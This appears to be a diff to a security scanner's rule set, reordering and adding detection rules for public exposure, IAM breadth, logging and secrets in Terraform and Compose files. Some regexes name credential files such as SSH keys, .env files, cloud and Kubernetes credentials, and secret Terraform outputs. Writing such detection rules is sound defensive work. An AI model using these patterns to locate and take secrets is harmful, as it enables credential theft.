+       ],
+       "absent": true
+      }
+     ]
+    },
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": [
+        "pids_limit",
+        "deploy.resources.limits.pids"
+       ],
+       "below": 1
+      }
+     ],
+     "confidence": "medium"
     }
    ],
    "languages": [
@@ -37902,6 +38727,19 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "google_compute_instance",
+      "google_compute_instance_template"
+     ],
+     "where": [
+      {
+       "path": "network_interface[*].access_config[*]",
+       "present": true
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_subnet",
       "aws_default_subnet"
      ],
@@ -37918,19 +38756,6 @@ export const ruleSet: RuleSet = {
       "set": "map_public_ip_on_launch",
       "to": "false"
      }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
-       "path": "network_interface[*].access_config[*]",
-       "present": true
-      }
-     ]
     }
    ],
    "languages": [
@@ -38027,6 +38852,31 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_cosmosdb_account"
+     ],
+     "where": [
+      {
+       "path": "public_network_access_enabled",
+       "default": true,
+       "is": true
+      },
+      {
+       "path": "is_virtual_network_filter_enabled",
+       "default": false,
+       "is": false
+      },
+      {
+       "path": [
+        "ip_range_filter",
+        "ip_range_filter[*]"
+       ],
+       "absent": true
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "azurerm_cognitive_account",
       "azurerm_container_registry",
       "azurerm_redis_cache",
@@ -38056,31 +38906,6 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} takes connections from the public network: that is the default.",
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_cosmosdb_account"
-     ],
-     "where": [
-      {
-       "path": "public_network_access_enabled",
-       "default": true,
-       "is": true
-      },
-      {
-       "path": "is_virtual_network_filter_enabled",
-       "default": false,
-       "is": false
-      },
-      {
-       "path": [
-        "ip_range_filter",
-        "ip_range_filter[*]"
-       ],
-       "absent": true
-      }
-     ]
     },
     {
      "format": "terraform",
@@ -38217,27 +39042,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "policy-statement:unattached"
-     ],
-     "where": [
-      {
-       "path": "Effect",
-       "is": "Allow"
-      },
-      {
-       "path": "Principal.AWS[*]",
-       "matches": "^(?:\\*|arn:aws[a-z-]*:iam::\\*:.*)$"
-      },
-      {
-       "path": "Condition",
-       "absent": true
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_lambda_permission"
      ],
      "where": [
@@ -38300,6 +39104,27 @@ export const ruleSet: RuleSet = {
        "matches": "(?:^|,)all(?:,|$)"
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "policy-statement:unattached"
+     ],
+     "where": [
+      {
+       "path": "Effect",
+       "is": "Allow"
+      },
+      {
+       "path": "Principal.AWS[*]",
+       "matches": "^(?:\\*|arn:aws[a-z-]*:iam::\\*:.*)$"
+      },
+      {
+       "path": "Condition",
+       "absent": true
+      }
+     ],
+     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -38460,40 +39285,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_storage_account"
-     ],
-     "where": [
-      {
-       "path": [
-        "allow_nested_items_to_be_public",
-        "allow_blob_public_access"
-       ],
-       "is": true
-      }
-     ],
-     "message": "{name} lets its containers be opened to everybody.",
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_storage_account"
-     ],
-     "where": [
-      {
-       "path": [
-        "allow_nested_items_to_be_public",
-        "allow_blob_public_access"
-       ],
-       "absent": true
-      }
-     ],
-     "message": "{name} lets its containers be opened to everybody: the provider allows it when nothing is said.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_storage_bucket_iam_member",
       "google_storage_managed_folder_iam_member"
      ],
@@ -38555,6 +39346,40 @@ export const ruleSet: RuleSet = {
        "matches": "^(?:public|authenticatedRead)|:all(?:Authenticated)?Users$"
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_storage_account"
+     ],
+     "where": [
+      {
+       "path": [
+        "allow_nested_items_to_be_public",
+        "allow_blob_public_access"
+       ],
+       "is": true
+      }
+     ],
+     "message": "{name} lets its containers be opened to everybody.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_storage_account"
+     ],
+     "where": [
+      {
+       "path": [
+        "allow_nested_items_to_be_public",
+        "allow_blob_public_access"
+       ],
+       "absent": true
+      }
+     ],
+     "message": "{name} lets its containers be opened to everybody: the provider allows it when nothing is said.",
+     "severity": "low"
     }
    ],
    "languages": [
@@ -38635,21 +39460,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_redshift_cluster"
-     ],
-     "where": [
-      {
-       "path": "publicly_accessible",
-       "absent": true
-      }
-     ],
-     "message": "{name} does not say whether it may be reached from the internet; older providers open it.",
-     "severity": "low",
-     "confidence": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_msk_cluster"
      ],
      "where": [
@@ -38658,127 +39468,6 @@ export const ruleSet: RuleSet = {
        "is": "SERVICE_PROVIDED_EIPS"
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_eks_cluster"
-     ],
-     "where": [
-      {
-       "path": "vpc_config[*]",
-       "where": [
-        {
-         "path": "endpoint_public_access",
-         "default": true,
-         "is": true
-        },
-        {
-         "any": [
-          {
-           "path": "public_access_cidrs",
-           "absent": true
-          },
-          {
-           "path": "public_access_cidrs[*]",
-           "is": [
-            "0.0.0.0/0",
-            "::/0"
-           ]
-          }
-         ]
-        }
-       ]
-      }
-     ],
-     "message": "{name} opens its Kubernetes API to the whole internet.",
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_sagemaker_notebook_instance"
-     ],
-     "where": [
-      {
-       "path": "direct_internet_access",
-       "default": "Enabled",
-       "is": "Enabled"
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_sagemaker_domain"
-     ],
-     "where": [
-      {
-       "path": "app_network_access_type",
-       "default": "PublicInternetOnly",
-       "is": "PublicInternetOnly"
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_opensearch_domain",
-      "aws_elasticsearch_domain"
-     ],
-     "where": [
-      {
-       "path": "vpc_options[*]",
-       "absent": true
-      }
-     ],
-     "message": "{name} has a public endpoint: no vpc_options.",
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_transfer_server"
-     ],
-     "where": [
-      {
-       "path": "endpoint_type",
-       "default": "PUBLIC",
-       "is": "PUBLIC"
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_mwaa_environment"
-     ],
-     "where": [
-      {
-       "path": "webserver_access_mode",
-       "is": "PUBLIC_ONLY"
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_lb",
-      "aws_alb",
-      "aws_elb"
-     ],
-     "where": [
-      {
-       "path": "internal",
-       "is": false
-      }
-     ],
-     "message": "{name} is a load balancer for the internet.",
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -38792,20 +39481,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} lets everybody on the internet call the function."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_ecs_service"
-     ],
-     "where": [
-      {
-       "path": "network_configuration[*].assign_public_ip",
-       "is": true
-      }
-     ],
-     "message": "{name} gives its tasks public addresses.",
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -38857,87 +39532,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_sql_firewall_rule",
-      "azurerm_mssql_firewall_rule",
-      "azurerm_postgresql_firewall_rule",
-      "azurerm_mysql_firewall_rule",
-      "azurerm_mariadb_firewall_rule",
-      "azurerm_postgresql_flexible_server_firewall_rule",
-      "azurerm_mysql_flexible_server_firewall_rule",
-      "azurerm_redis_firewall_rule",
-      "azurerm_synapse_firewall_rule"
-     ],
-     "where": [
-      {
-       "path": [
-        "start_ip_address",
-        "start_ip"
-       ],
-       "is": "0.0.0.0"
-      },
-      {
-       "path": [
-        "end_ip_address",
-        "end_ip"
-       ],
-       "is": "0.0.0.0"
-      }
-     ],
-     "message": "{name} lets in every service of Azure, those of other customers included.",
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_kubernetes_cluster"
-     ],
-     "where": [
-      {
-       "path": "private_cluster_enabled",
-       "default": false,
-       "is": false
-      },
-      {
-       "path": [
-        "api_server_access_profile[*].authorized_ip_ranges",
-        "api_server_authorized_ip_ranges"
-       ],
-       "absent": true
-      }
-     ],
-     "message": "{name} opens its Kubernetes API to the whole internet.",
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_container_group"
-     ],
-     "where": [
-      {
-       "path": "ip_address_type",
-       "is": "Public"
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_network_interface"
-     ],
-     "where": [
-      {
-       "path": "ip_configuration[*].public_ip_address_id",
-       "present": true
-      }
-     ],
-     "message": "{name} gives a machine a public address.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_sql_database_instance"
      ],
      "where": [
@@ -38949,25 +39543,6 @@ export const ruleSet: RuleSet = {
        ]
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_sql_database_instance"
-     ],
-     "where": [
-      {
-       "path": "settings[*].ip_configuration[*].ipv4_enabled",
-       "default": true,
-       "is": true
-      },
-      {
-       "path": "master_instance_name",
-       "absent": true
-      }
-     ],
-     "message": "{name} has a public address.",
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -38984,40 +39559,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} opens its Kubernetes API to the whole internet."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "master_authorized_networks_config[*]",
-       "absent": true
-      },
-      {
-       "path": "private_cluster_config[*].enable_private_endpoint",
-       "default": false,
-       "is": false
-      }
-     ],
-     "message": "{name} opens its Kubernetes API to the whole internet: no master_authorized_networks_config.",
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_container_cluster"
-     ],
-     "where": [
-      {
-       "path": "private_cluster_config[*].enable_private_nodes",
-       "default": false,
-       "is": false
-      }
-     ],
-     "message": "{name} gives its nodes public addresses.",
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -39090,6 +39631,265 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "google_bigquery_dataset"
+     ],
+     "where": [
+      {
+       "path": "access[*].special_group",
+       "is": [
+        "allAuthenticatedUsers",
+        "allUsers"
+       ]
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_bigquery_dataset_access"
+     ],
+     "where": [
+      {
+       "path": [
+        "special_group",
+        "iam_member"
+       ],
+       "is": [
+        "allAuthenticatedUsers",
+        "allUsers"
+       ]
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_db_snapshot",
+      "aws_db_cluster_snapshot"
+     ],
+     "where": [
+      {
+       "path": "shared_accounts[*]",
+       "is": "all"
+      }
+     ],
+     "message": "{name} gives a copy of the database to every AWS account."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_eks_cluster"
+     ],
+     "where": [
+      {
+       "path": "vpc_config[*]",
+       "where": [
+        {
+         "path": "endpoint_public_access",
+         "default": true,
+         "is": true
+        },
+        {
+         "any": [
+          {
+           "path": "public_access_cidrs",
+           "absent": true
+          },
+          {
+           "path": "public_access_cidrs[*]",
+           "is": [
+            "0.0.0.0/0",
+            "::/0"
+           ]
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "message": "{name} opens its Kubernetes API to the whole internet.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_sagemaker_notebook_instance"
+     ],
+     "where": [
+      {
+       "path": "direct_internet_access",
+       "default": "Enabled",
+       "is": "Enabled"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_opensearch_domain",
+      "aws_elasticsearch_domain"
+     ],
+     "where": [
+      {
+       "path": "vpc_options[*]",
+       "absent": true
+      }
+     ],
+     "message": "{name} has a public endpoint: no vpc_options.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_transfer_server"
+     ],
+     "where": [
+      {
+       "path": "endpoint_type",
+       "default": "PUBLIC",
+       "is": "PUBLIC"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_mwaa_environment"
+     ],
+     "where": [
+      {
+       "path": "webserver_access_mode",
+       "is": "PUBLIC_ONLY"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ecs_service"
+     ],
+     "where": [
+      {
+       "path": "network_configuration[*].assign_public_ip",
+       "is": true
+      }
+     ],
+     "message": "{name} gives its tasks public addresses.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_sql_firewall_rule",
+      "azurerm_mssql_firewall_rule",
+      "azurerm_postgresql_firewall_rule",
+      "azurerm_mysql_firewall_rule",
+      "azurerm_mariadb_firewall_rule",
+      "azurerm_postgresql_flexible_server_firewall_rule",
+      "azurerm_mysql_flexible_server_firewall_rule",
+      "azurerm_redis_firewall_rule",
+      "azurerm_synapse_firewall_rule"
+     ],
+     "where": [
+      {
+       "path": [
+        "start_ip_address",
+        "start_ip"
+       ],
+       "is": "0.0.0.0"
+      },
+      {
+       "path": [
+        "end_ip_address",
+        "end_ip"
+       ],
+       "is": "0.0.0.0"
+      }
+     ],
+     "message": "{name} lets in every service of Azure, those of other customers included.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_kubernetes_cluster"
+     ],
+     "where": [
+      {
+       "path": "private_cluster_enabled",
+       "default": false,
+       "is": false
+      },
+      {
+       "path": [
+        "api_server_access_profile[*].authorized_ip_ranges",
+        "api_server_authorized_ip_ranges"
+       ],
+       "absent": true
+      }
+     ],
+     "message": "{name} opens its Kubernetes API to the whole internet.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_sql_database_instance"
+     ],
+     "where": [
+      {
+       "path": "settings[*].ip_configuration[*].ipv4_enabled",
+       "default": true,
+       "is": true
+      },
+      {
+       "path": "master_instance_name",
+       "absent": true
+      }
+     ],
+     "message": "{name} has a public address.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "master_authorized_networks_config[*]",
+       "absent": true
+      },
+      {
+       "path": "private_cluster_config[*].enable_private_endpoint",
+       "default": false,
+       "is": false
+      }
+     ],
+     "message": "{name} opens its Kubernetes API to the whole internet: no master_authorized_networks_config.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_cluster"
+     ],
+     "where": [
+      {
+       "path": "private_cluster_config[*].enable_private_nodes",
+       "default": false,
+       "is": false
+      }
+     ],
+     "message": "{name} gives its nodes public addresses.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "google_cloudfunctions_function_iam_member",
       "google_cloudfunctions2_function_iam_member",
       "google_cloud_run_service_iam_member",
@@ -39136,39 +39936,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "google_bigquery_dataset"
-     ],
-     "where": [
-      {
-       "path": "access[*].special_group",
-       "is": [
-        "allAuthenticatedUsers",
-        "allUsers"
-       ]
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_bigquery_dataset_access"
-     ],
-     "where": [
-      {
-       "path": [
-        "special_group",
-        "iam_member"
-       ],
-       "is": [
-        "allAuthenticatedUsers",
-        "allUsers"
-       ]
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_cloudfunctions_function"
      ],
      "where": [
@@ -39179,21 +39946,6 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} may be called over plain HTTP.",
      "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_cloudfunctions_function"
-     ],
-     "where": [
-      {
-       "path": "ingress_settings",
-       "default": "ALLOW_ALL",
-       "is": "ALLOW_ALL"
-      }
-     ],
-     "message": "{name} takes calls from every network.",
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -39239,56 +39991,6 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_lb",
-      "aws_alb"
-     ],
-     "where": [
-      {
-       "path": "internal",
-       "absent": true
-      },
-      {
-       "not": {
-        "path": "load_balancer_type",
-        "is": "gateway"
-       }
-      }
-     ],
-     "message": "{name} is a load balancer for the internet.",
-     "severity": "info",
-     "confidence": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_db_snapshot",
-      "aws_db_cluster_snapshot"
-     ],
-     "where": [
-      {
-       "path": "shared_accounts[*]",
-       "is": "all"
-      }
-     ],
-     "message": "{name} gives a copy of the database to every AWS account."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_vpc_endpoint_service"
-     ],
-     "where": [
-      {
-       "path": "acceptance_required",
-       "is": false
-      }
-     ],
-     "message": "{name} lets everybody connect without asking.",
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -39339,12 +40041,136 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
+       "path": "publicly_accessible",
+       "absent": true
+      }
+     ],
+     "message": "{name} does not say whether it may be reached from the internet; older providers open it.",
+     "severity": "low",
+     "confidence": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_sagemaker_domain"
+     ],
+     "where": [
+      {
+       "path": "app_network_access_type",
+       "default": "PublicInternetOnly",
+       "is": "PublicInternetOnly"
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_container_group"
+     ],
+     "where": [
+      {
+       "path": "ip_address_type",
+       "is": "Public"
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_network_interface"
+     ],
+     "where": [
+      {
+       "path": "ip_configuration[*].public_ip_address_id",
+       "present": true
+      }
+     ],
+     "message": "{name} gives a machine a public address.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_cloudfunctions_function"
+     ],
+     "where": [
+      {
+       "path": "ingress_settings",
+       "default": "ALLOW_ALL",
+       "is": "ALLOW_ALL"
+      }
+     ],
+     "message": "{name} takes calls from every network.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_vpc_endpoint_service"
+     ],
+     "where": [
+      {
+       "path": "acceptance_required",
+       "is": false
+      }
+     ],
+     "message": "{name} lets everybody connect without asking.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_redshift_cluster"
+     ],
+     "where": [
+      {
        "path": "cluster_subnet_group_name",
        "absent": true
       }
      ],
      "message": "{name} names no subnet group: it is not in a network of yours.",
      "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_lb",
+      "aws_alb",
+      "aws_elb"
+     ],
+     "where": [
+      {
+       "path": "internal",
+       "is": false
+      }
+     ],
+     "message": "{name} is a load balancer for the internet.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_lb",
+      "aws_alb"
+     ],
+     "where": [
+      {
+       "path": "internal",
+       "absent": true
+      },
+      {
+       "not": {
+        "path": "load_balancer_type",
+        "is": "gateway"
+       }
+      }
+     ],
+     "message": "{name} is a load balancer for the internet.",
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -39365,7 +40191,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} is an API for the internet.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -39379,7 +40206,8 @@ export const ruleSet: RuleSet = {
        "is": "None"
       }
      ],
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -39392,7 +40220,8 @@ export const ruleSet: RuleSet = {
        "is": "INGRESS_TRAFFIC_ALL"
       }
      ],
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -40249,6 +41078,51 @@ export const ruleSet: RuleSet = {
    ]
   },
   {
+   "id": "restart-without-end",
+   "title": "Restarts without end",
+   "category": "quality",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    400
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "reliability",
+    "CIS-Docker-5.15",
+    "KICS-2fc99041"
+   ],
+   "message": "`{name}` is started again however often it fails.",
+   "why": "A program that fails at once is started again and again, and its failure is never noticed.",
+   "fix": "Use `on-failure:5`.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": "restart",
+       "is": [
+        "always",
+        "unless-stopped"
+       ]
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
    "id": "retired-resource-type",
    "title": "Resource of the time before VPCs",
    "category": "security",
@@ -40396,6 +41270,23 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "google_iam_workload_identity_pool_provider"
+     ],
+     "where": [
+      {
+       "path": "oidc[*].issuer_uri",
+       "matches": "token\\.actions\\.githubusercontent\\.com|gitlab\\.com|app\\.terraform\\.io|oidc\\.circleci\\.com"
+      },
+      {
+       "path": "attribute_condition",
+       "absent": true
+      }
+     ],
+     "message": "{name} lets every repository on the service in: no attribute_condition."
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "policy-statement:trust"
      ],
      "where": [
@@ -40414,24 +41305,7 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} lets everybody of another account take on the role who has the right to take on roles.",
      "severity": "info",
-     "confidence": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_iam_workload_identity_pool_provider"
-     ],
-     "where": [
-      {
-       "path": "oidc[*].issuer_uri",
-       "matches": "token\\.actions\\.githubusercontent\\.com|gitlab\\.com|app\\.terraform\\.io|oidc\\.circleci\\.com"
-      },
-      {
-       "path": "attribute_condition",
-       "absent": true
-      }
-     ],
-     "message": "{name} lets every repository on the service in: no attribute_condition."
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -40749,7 +41623,17 @@ export const ruleSet: RuleSet = {
      "each": "sources[*]",
      "where": [
       {
-       "matches": "(?:^|/)(?:\\.env(?:\\.(?:local|prod|production|dev|development|staging))?|id_(?:rsa|dsa|ecdsa|ed25519)|\\.netrc|\\.pypirc|\\.git-credentials|\\.htpasswd|\\.pgpass|\\.aws(?:/credentials|/)?|\\.ssh/?|\\.kube/config|\\.docker/config\\.json|credentials(?:\\.json)?|(?:[\\w-]{1,40}[._-])?(?:private[._-]?)?key\\.pem|[\\w-]{1,60}\\.(?:key|p12|pfx|jks|keystore|ppk|kdbx))$"
+       "any": [
+        {
+         "matches": "(?:^|/)(?:\\.env(?:\\.(?:local|prod|production|dev|development|staging))?|id_(?:rsa|dsa|ecdsa|ed25519)|\\.netrc|\\.pypirc|\\.git-credentials|\\.htpasswd|\\.pgpass|credentials(?:\\.json)?)$"
+        },
+        {
+         "matches": "(?:^|/)(?:\\.aws(?:/credentials|/)?|\\.ssh/?|\\.kube/config|\\.docker/config\\.json)$"
+        },
+        {
+         "matches": "(?:^|[/._-])key\\.pem$|\\.(?:key|p12|pfx|jks|keystore|ppk|kdbx)$"
+        }
+       ]
       }
      ],
      "unless": [
@@ -41144,6 +42028,24 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "output"
+     ],
+     "where": [
+      {
+       "path": "value",
+       "source": "^[${\"]{0,3}(?:data\\.)?(?:aws|azurerm|azuread|google|random|tls)_\\w+\\.[\\w-]+(?:\\[[^\\]]{0,40}\\])?\\.(?:password|master_password|secret|private_key|private_key_pem|secret_string|secret_key|auth_token|primary_access_key|client_secret|primary_connection_string|admin_password)[}\"]{0,2}$"
+      },
+      {
+       "path": "sensitive",
+       "default": false,
+       "is": false
+      }
+     ],
+     "message": "{name} shows a secret in plans and in the output of builds."
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "variable:secret"
      ],
      "where": [
@@ -41158,25 +42060,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} is a secret by its name, and is shown in plans: it is not marked as sensitive.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "output"
-     ],
-     "where": [
-      {
-       "path": "value",
-       "source": "\\.(?:password|master_password|secret|private_key|private_key_pem|secret_string|secret_key|auth_token|access_key_secret|primary_access_key|client_secret|primary_connection_string|admin_password)(?:\\W|$)"
-      },
-      {
-       "path": "sensitive",
-       "default": false,
-       "is": false
-      }
-     ],
-     "message": "{name} shows a secret in plans and in the output of builds."
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -41575,26 +42460,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_opensearch_domain",
-      "aws_elasticsearch_domain"
-     ],
-     "where": [
-      {
-       "path": "log_publishing_options[*].log_type",
-       "present": true
-      },
-      {
-       "not": {
-        "path": "log_publishing_options[*].log_type",
-        "is": "AUDIT_LOGS"
-       }
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_mq_broker"
      ],
      "where": [
@@ -41628,19 +42493,6 @@ export const ruleSet: RuleSet = {
        }
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_elasticache_replication_group"
-     ],
-     "where": [
-      {
-       "path": "log_delivery_configuration[*]",
-       "absent": true
-      }
-     ],
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -41793,52 +42645,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_cloudwatch_log_group"
-     ],
-     "where": [
-      {
-       "path": "retention_in_days",
-       "absent": true
-      }
-     ],
-     "message": "{name} keeps its records for ever: nobody said how long.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_rds_cluster_instance",
-      "aws_db_instance"
-     ],
-     "where": [
-      {
-       "path": "performance_insights_enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "message": "{name} leaves Performance Insights off.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_rds_cluster_instance",
-      "aws_db_instance"
-     ],
-     "where": [
-      {
-       "path": "monitoring_interval",
-       "default": 0,
-       "is": 0
-      }
-     ],
-     "message": "{name} leaves enhanced monitoring off.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_sql_database_instance"
      ],
      "where": [
@@ -41923,6 +42729,90 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_opensearch_domain",
+      "aws_elasticsearch_domain"
+     ],
+     "where": [
+      {
+       "path": "log_publishing_options[*].log_type",
+       "present": true
+      },
+      {
+       "not": {
+        "path": "log_publishing_options[*].log_type",
+        "is": "AUDIT_LOGS"
+       }
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_elasticache_replication_group"
+     ],
+     "where": [
+      {
+       "path": "log_delivery_configuration[*]",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_cloudwatch_log_group"
+     ],
+     "where": [
+      {
+       "path": "retention_in_days",
+       "absent": true
+      }
+     ],
+     "message": "{name} keeps its records for ever: nobody said how long.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_rds_cluster_instance",
+      "aws_db_instance"
+     ],
+     "where": [
+      {
+       "path": "performance_insights_enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "message": "{name} leaves Performance Insights off.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_rds_cluster_instance",
+      "aws_db_instance"
+     ],
+     "where": [
+      {
+       "path": "monitoring_interval",
+       "default": 0,
+       "is": 0
+      }
+     ],
+     "message": "{name} leaves enhanced monitoring off.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "google_sql_database_instance"
      ],
      "where": [
@@ -41942,7 +42832,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} does not log connections.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
